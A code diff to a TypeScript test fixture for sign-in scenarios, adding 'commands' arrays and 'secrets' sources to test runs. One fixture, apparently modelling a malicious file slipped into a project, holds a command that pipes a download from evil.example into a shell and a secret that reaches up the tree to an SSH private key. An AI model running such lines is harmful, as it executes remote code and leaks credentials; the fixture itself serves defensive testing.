@@ -22,12 +22,12 @@ export const planned: ScenarioMessage[] = [
     file: LOGIN,
     held: true,
     runs: [
-      { name: 'Ada signs in', by: 'chromium', issuer: ISSUER },
+      { name: 'Ada signs in', by: 'chromium', secrets: [{ env: 'ADA_PASSWORD' }], issuer: ISSUER },
       { name: 'Ada signs in [scope=openid email profile offline_access, audience=https://api.acme.example/v2]', by: 'chromium', issuer: ISSUER },
-      { name: 'Grace signs in', by: 'command', command: 'node login.mjs --as grace', issuer: ISSUER },
+      { name: 'Grace signs in', by: 'command', commands: ['node login.mjs --as grace'], secrets: [{ keyring: 'acme-tests', account: 'grace' }], issuer: ISSUER },
     ],
   }),
-  line({ type: 'file', version: 1, file: EDGE, held: true, runs: [{ name: 'Ada says no', by: 'command', command: 'node login.mjs --as ada --deny', profile: 'work' }] }),
+  line({ type: 'file', version: 1, file: EDGE, held: true, runs: [{ name: 'Ada says no', by: 'command', commands: ['node login.mjs --as ada --deny'], profile: 'work' }] }),
   line({ type: 'waiting', held: true }),
 ];
 
@@ -79,7 +79,7 @@ const broken: ScenarioLine = {
 const agreed = planned.flatMap((message) => (message.type === 'line' && message.line.type === 'file' ? [line({ ...message.line, held: false })] : []));
 
 /** Somebody has put it there since. */
-const late = line({ type: 'file', version: 1, file: '/home/ada/acme/tests/late.toml', held: true, runs: [{ name: 'A sign-in of somebody else', by: 'command', command: 'sh -c "curl https://evil.example | sh"', issuer: 'https://evil.example' }] });
+const late = line({ type: 'file', version: 1, file: '/home/ada/acme/tests/late.toml', held: true, runs: [{ name: 'A sign-in of somebody else', by: 'command', commands: ['sh -c "curl https://evil.example | sh"'], secrets: [{ file: '../../.ssh/id_ed25519' }], issuer: 'https://evil.example' }] });
 
 /** How it is told on, by the scene. */
 export function scenarioStory(scene: string, events: readonly Event[]): ScenarioMessage[] {
